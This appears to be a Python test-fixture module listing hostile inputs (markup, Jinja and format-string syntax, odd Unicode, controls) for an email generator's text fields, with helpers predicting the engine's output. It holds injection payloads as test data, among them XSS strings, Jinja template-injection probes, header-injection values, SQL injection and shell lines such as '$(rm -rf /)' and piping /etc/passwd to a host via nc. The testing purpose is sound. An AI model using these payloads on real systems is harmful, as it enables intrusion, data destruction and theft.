"""Hostile text for every field the reader types into: markup, template syntax, controls, odd Unicode.

Shared by tests/test_hostile.py, tests/test_properties.py and the browser tests, so the native engine
and the page in Pyodide face the same inputs. Each case is valid input for a text field as far as words
go: it is never empty after stripping, never only punctuation, and never ends in a character the
templates' `fragment` filter drops (`.!?;:,` and spaces), so `expected_text(case.text)` appears whole in
the email whichever field holds it.
"""

from __future__ import annotations

import re
import unicodedata
from typing import Literal, NamedTuple

_SURROGATE = re.compile("[\ud800-\udfff]")


class HostileCase(NamedTuple):
    """One hostile value: an id for test names, the text, and whether it fits a single-line field.

    `single_line` is False when the text holds a CR or LF anywhere, so it belongs in long-text fields
    only. Breaks that are only at the edges are stripped, so such a text still fills a single-line
    field; `expected_text(text)` tells whether a break is left inside.
    """

    id: str
    text: str
    single_line: bool


def expected_text(case_text: str) -> str:
    r"""How the engine shows a value in the email.

    The rules, in order:

    1. A lone surrogate (half of a UTF-16 pair, as a browser can send) becomes U+FFFD; a high
       surrogate directly followed by a low one is read as the pair it spells (JSON's "\ud83d\ude00"
       is one emoji).
    2. CRLF and lone CR become LF.
    3. Outer whitespace is stripped, as `str.strip()` sees it: Unicode whitespace, so NBSP, U+2028,
       U+3000 and the C0 separators U+001C-U+001F go too; zero-width characters and the BOM stay.
    4. Everything else is literal: no HTML escaping, no template evaluation, no normalisation.

    This is written apart from generator/text.py on purpose, so a change there shows up as a failure.
    """
    return replace_lone_surrogates(case_text).replace("\r\n", "\n").replace("\r", "\n").strip()


# What the templates' `fragment` filter drops from a value's end (generator/render.py, _SENTENCE_END).
FRAGMENT_DROPS = ".!?;:, \t\n"
# Characters that end a line, as str.splitlines() sees them.
LINE_ENDS = "\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"

Refusal = Literal["too-long", "required", "one-line", "control", "punctuation"]


def refusal(case_text: str, *, multi_line: bool, limit: int, required: bool = True) -> Refusal | None:
    """Why the engine refuses this value in a field of that kind, or None when it shows `expected_text`.

    The rules, in order, written apart from the engine (generator/render.py and generator/text.py):

    1. More code points than the field's limit, as sent: too long.
    2. Nothing left once `expected_text` has cleaned it: required (when the field is).
    3. A one-line field: any line end left inside is "one-line", any other control character
       (Unicode category Cc, or a line or paragraph separator) is "control". A multi-line field
       keeps LF and tab; any other such character is "control".
    4. Only punctuation and spaces that the templates drop: "punctuation".
    """
    if len(case_text) > limit:
        return "too-long"
    shown = expected_text(case_text)
    if not shown:
        return "required" if required else None
    for char in shown:
        if multi_line and char in "\n\t":
            continue
        if unicodedata.category(char) in {"Cc", "Zl", "Zp"}:
            return "one-line" if not multi_line and char in LINE_ENDS else "control"
    if not shown.rstrip(FRAGMENT_DROPS):
        return "punctuation"
    return None


def replace_lone_surrogates(text: str) -> str:
    """The text with each lone surrogate as U+FFFD and each high-low surrogate pair as the character it spells."""
    if not _SURROGATE.search(text):
        return text
    chars: list[str] = []
    index = 0
    while index < len(text):
        char = text[index]
        following = text[index + 1] if index + 1 < len(text) else ""
        if "\ud800" <= char <= "\udbff" and "\udc00" <= following <= "\udfff":
            chars.append(chr(0x10000 + ((ord(char) - 0xD800) << 10) + (ord(following) - 0xDC00)))
            index += 2
            continue
        chars.append("\ufffd" if "\ud800" <= char <= "\udfff" else char)
        index += 1
    return "".join(chars)


def _case(case_id: str, text: str) -> HostileCase:
    return HostileCase(case_id, text, single_line="\r" not in text and "\n" not in text)


_ZALGO_MARKS = "".join(chr(c) for c in range(0x0300, 0x0370))
_C0 = "".join(chr(c) for c in range(0x01, 0x20) if chr(c) not in "\t\n\r")
_C1 = "".join(chr(c) for c in range(0x80, 0xA0))

HOSTILE: list[HostileCase] = [
    # HTML and script: the email is plain text, so markup must come out exactly as typed.
    _case("html-script", "<script>alert(1)</script>"),
    _case("html-img-onerror", "<img src=x onerror=alert(1)>"),
    _case("html-close-textarea", "</textarea><b>bold</b>"),
    _case("html-entities", "&amp; &lt;b&gt; &quot;x&quot; &#39; &#x3C;tag"),
    _case("html-quotes", 'O\'Brien "the Great" `tick`'),
    _case("html-javascript-url", "javascript:alert(document.cookie)"),
    _case("html-svg", '<svg onload=alert(1)><circle r="1"/></svg>'),
    _case("html-comment-cdata", "<!-- x --> <![CDATA[ y ]]>"),
    _case("html-style-iframe", '<style>*{display:none}</style><iframe src="//evil.example">'),
    _case("html-data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    _case("markdown-link", "[click](javascript:alert(1)) **bold** <https://evil.example>"),
    # Jinja syntax: values are data, never evaluated.
    _case("jinja-expression", "{{ 7*7 }}"),
    _case("jinja-config", "{{ config }}"),
    _case("jinja-for", "{% for x in range(9) %}x{% endfor %}"),
    _case("jinja-comment", "{# c #}"),
    _case("jinja-mro", "{{ ''.__class__.__mro__ }}"),
    _case("jinja-subclasses", "{{ ''.__class__.__base__.__subclasses__() }}"),
    _case("jinja-raw", "{% raw %}{{ x }}{% endraw %}"),
    _case("jinja-unclosed", "{{ {% {# x"),
    _case("jinja-other-fields", "{{ self }} {{ position }} {{ candidate_name|upper }}"),
    _case("jinja-block", "{% block body %}hacked{% endblock %}"),
    _case("jinja-include", "{% include '/etc/passwd' %}"),
    _case("jinja-set", "{% set x = 1 %}{{ x }}"),
    # Python format strings: nothing formats a value a second time.
    _case("format-positional", "{0} {} {1}"),
    _case("format-percent", "%s %d %(name)s %%"),
    _case("format-named", "{name!r} {position:>10}"),
    _case("format-attribute", "{0.__class__} {.__globals__}"),
    _case("format-dollar", "${x} $HOME $(id)"),
    # Size: at a name's limit, at a paragraph's, and far past every limit (refused, naming the field).
    _case("long-ascii-100", "a" * 100),
    _case("long-unicode-100", "Ünï 中文 😀 " * 10),
    _case("long-words-2000", ("word " * 400).strip()),
    _case("long-astral-2000", "😀" * 2_000),
    _case("long-ascii-100k", "a" * 100_000),
    _case("long-unicode-100k", ("Ünïcødé 中文 😀 עברית ✓ " * 4_600).strip()),
    _case("long-word", "Supercalifragilistic" * 500),
    _case("long-url-word", "https://example.com/" + "x" * 5_000),
    _case("long-many-lines", "\n".join(["line"] * 10_000)),
    _case("long-blank-lines", "a" + "\n" * 1_000 + "b"),
    # Right-to-left text and bidi controls.
    _case("rtl-hebrew", "שלום עולם"),
    _case("rtl-arabic", "مرحبا بالعالم"),
    _case("rtl-mixed", "Jane דוא Doe 123"),
    _case("bidi-rlo", "invoice\u202egnp.exe"),
    _case("bidi-rlo-pdf", "\u202eJane\u202c Doe"),
    _case("bidi-isolates", "\u2066a\u2067b\u2068c\u2069d"),
    _case("bidi-marks", "\u200fJane\u200e"),
    _case("bidi-unterminated", "\u202b\u202d\u202a text"),
    # Combining marks.
    _case("combining-acute", "e\u0301"),
    _case("combining-nfc-nfd", "caf\u00e9 caf\u0065\u0301"),
    _case("combining-leading", "\u0301\u0308abc"),
    _case("combining-zalgo", "Z" + _ZALGO_MARKS + "a" + _ZALGO_MARKS[::-1] + "lgo"),
    # Emoji with joiners, modifiers and flags.
    _case("emoji-family-zwj", "👨\u200d👩\u200d👧\u200d👦"),
    _case("emoji-skin-tones", "👍🏽 👋🏿"),
    _case("emoji-flags", "🇺🇦🇯🇵🏳\ufe0f\u200d🌈"),
    _case("emoji-keycaps", "1\ufe0f\u20e3 #\ufe0f\u20e3"),
    _case("astral-math", "𝕳𝖊𝖑𝖑𝖔 𓀀 \U0010ffff"),
    # Lone surrogates, as a browser's JSON can carry them.
    _case("surrogate-high", "\ud800"),
    _case("surrogate-low", "\udfff"),
    _case("surrogate-inside", "Ja\ud800ne"),
    _case("surrogate-reversed", "\udc00\ud800x"),
    _case("surrogate-pair-halves", "\ud83d\ude00"),
    # Line breaks: fine in long text, never in a single-line field.
    _case("line-lf", "first\nsecond"),
    _case("line-cr", "first\rsecond"),
    _case("line-crlf", "first\r\nsecond"),
    _case("line-lfcr", "first\n\rsecond"),
    _case("line-mixed", "a\r\n\rb\n\r\nc"),
    _case("line-paragraphs-crlf", "first\r\n\r\nsecond"),
    _case("line-outer-only", "\r\n\r\nJane Doe\r\n"),
    # Header injection: a break must never reach a header.
    _case("header-bcc-crlf", "Jane\r\nBcc: spy@example.com"),
    _case("header-subject-lf", "x\nSubject: hi"),
    _case("header-cc-cr", "Jane\rCc: a@b.c"),
    _case("header-body-crlfcrlf", "Jane\r\n\r\n<html>injected body"),
    _case("header-percent-crlf", "%0D%0ABcc:x@y.z"),
    _case("header-percent-nul", "%00"),
    _case("header-percent-bad", "%zz %4 %25%32%35"),
    # NUL and other controls.
    _case("nul-inside", "a\0b"),
    _case("nul-alone", "\0"),
    _case("nul-edges", "\0Jane\0"),
    _case("c0-controls", "a" + _C0 + "b"),
    _case("c1-controls", "a" + _C1 + "b"),
    _case("delete", "a\x7fb"),
    _case("ansi-escape", "\x1b[31mred\x1b[0m\x1b]0;title\x07x"),
    _case("backspace-bell", "Jane\x08\x08\x08\x07Eve"),
    _case("tab-inside", "Jane\tDoe"),
    _case("tab-edges", "\t\tJane\t"),
    _case("vertical-space", "a\x0bb\x0cc"),
    _case("unicode-line-separators", "a\u2028b\u2029c\x85d"),
    # The characters a mailto: query gives meaning to, alone and together.
    _case("mailto-ampersand", "&"),
    _case("mailto-question", "why?not"),
    _case("mailto-hash", "#"),
    _case("mailto-percent", "%"),
    _case("mailto-equals", "="),
    _case("mailto-plus", "+"),
    _case("mailto-all", "a&b?c#d%e=f+g h"),
    _case("mailto-param-subject", "x&subject=pwned"),
    _case("mailto-param-cc", "?body=x&cc=spy@example.com&bcc=spy2@example.com"),
    _case("mailto-plus-space", "C++ and C# + F#"),
    # SQL, shell and path tricks: nothing here runs them, and they stay as typed.
    _case("sql-drop", "'; DROP TABLE users; --"),
    _case("sql-or", "' OR '1'='1"),
    _case("shell-subst", "$(rm -rf /) `id`"),
    _case("shell-pipes", "a && b || c; cat /etc/passwd | nc evil 1 > /dev/null"),
    _case("path-traversal", "../../etc/passwd"),
    _case("windows-path", "C:\\Windows\\System32\\"),
    _case("backslash-escapes", "\\n\\r\\x00\\u0000\\"),
    _case("json-breakout", '"},"op":"catalog","x":{"'),
    # Invisible characters.
    _case("zero-width-space", "Ja\u200bne"),
    _case("zero-width-only", "\u200b"),
    _case("zero-width-joiners", "a\u200c\u200d\u2060b"),
    _case("bom-leading", "\ufeffJane"),
    _case("bom-only", "\ufeff"),
    _case("soft-hyphen", "Ja\u00adne"),
    # Whitespace around real text.
    _case("space-edges", "   Jane Doe   "),
    _case("nbsp-edges", "\u00a0Jane\u00a0"),
    _case("em-space-edges", " \u2003Jane\u2009"),
    _case("ideographic-space-edges", "\u3000Jane\u3000"),
    _case("whitespace-mix-edges", " \t\u00a0\u2028\x1cJane Doe\x1f\u3000\t "),
    _case("newline-edges", "\n Jane \n"),
    _case("space-inside", "Jane     Doe"),
    # Look-alikes and other odd Unicode.
    _case("homoglyph-cyrillic", "J\u0430ne"),
    _case("fullwidth-markup", "＜script＞alert(1)＜／script＞"),
    _case("noncharacters", "\ufdd0\ufffe\uffff"),
    _case("replacement-char", "\ufffd"),
    _case("private-use", "\ue000\U000f0000"),
    _case("case-folding", "İı ß ﬁ"),
    # A hostile review's cases: shapes that made a pattern backtrack, and addresses two checks disagreed on.
    _case("greeting-spaces", "Mr. A" + " " * 90 + "B"),
    _case("greeting-spaces-tabs", "Ms." + " \t" * 45 + "Li"),
    _case("address-dots", "a@" + ".a" * 45 + "@"),
    _case("address-comma", "a@b.c,evil"),
    _case("address-angle", "<a@b.c>"),
    _case("address-accents", "josé@exämple.com"),
    _case("pushy-no-full-stop", "asap " * 19 + "now"),
    _case("capitals-distinct", " ".join(f"WORD{chr(65 + i // 26)}{chr(65 + i % 26)}" for i in range(14))),
    _case("escape-title", "\x1b]0;pwned\x07Jane"),
    _case("line-separator-inside", "Jane\u2028Doe"),
    _case("next-line-inside", "Jane\x85Doe"),
]
